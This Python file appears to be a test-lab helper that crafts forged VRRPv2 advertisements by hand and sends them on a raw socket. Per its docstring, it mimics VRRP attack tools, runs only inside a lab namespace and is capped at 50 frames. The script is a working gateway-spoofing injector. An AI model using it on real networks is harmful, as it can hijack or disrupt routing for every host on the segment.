"""Send forged VRRPv2 adverts from inside a lab namespace, as VRRP attack tools do.

    python tests/lab/inject.py IFACE SRC_IP VRID PRIORITY VIP COUNT [INTERVAL_S]

Builds each frame by hand (Ethernet from the interface's own MAC to 01:00:5e:00:00:12,
IPv4 TTL 255 protocol 112 to 224.0.0.18, a VRRPv2 advertisement with correct checksums)
and sends it on an AF_PACKET socket: COUNT frames (at most 50), INTERVAL_S apart. Run
only inside a namespace the lab made (tests/lab/netlab.py): it never picks an
interface of its own.
"""

from __future__ import annotations

import socket
import struct
import sys
import time
from pathlib import Path

MAX_FRAMES = 50


def _checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advert_frame(mac: bytes, src: str, vrid: int, priority: int, vip: str) -> bytes:
    """One Ethernet frame holding a VRRPv2 advertisement (auth none, 1 s interval)."""
    msg = bytearray(struct.pack("!BBBBBBH", 0x21, vrid, priority, 1, 0, 1, 0))
    msg += socket.inet_aton(vip) + b"\0" * 8
    msg[6:8] = struct.pack("!H", _checksum(bytes(msg)))
    header = bytearray(
        struct.pack(
            "!BBHHHBBH4s4s",
            0x45,
            0xC0,
            20 + len(msg),
            0,
            0,
            255,
            112,
            0,
            socket.inet_aton(src),
            socket.inet_aton("224.0.0.18"),
        )
    )
    header[10:12] = struct.pack("!H", _checksum(bytes(header)))
    return bytes.fromhex("01005e000012") + mac + b"\x08\x00" + bytes(header) + bytes(msg)


def main(argv: list[str]) -> int:
    iface, src, vrid, priority, vip, count = argv[:6]
    interval = float(argv[6]) if len(argv) > 6 else 1.0
    mac_text = Path(f"/sys/class/net/{iface}/address").read_text().strip()
    frame = advert_frame(
        bytes.fromhex(mac_text.replace(":", "")), src, int(vrid), int(priority), vip
    )
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((iface, 0))
        for i in range(min(int(count), MAX_FRAMES)):
            if i:
                time.sleep(interval)
            sock.send(frame)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
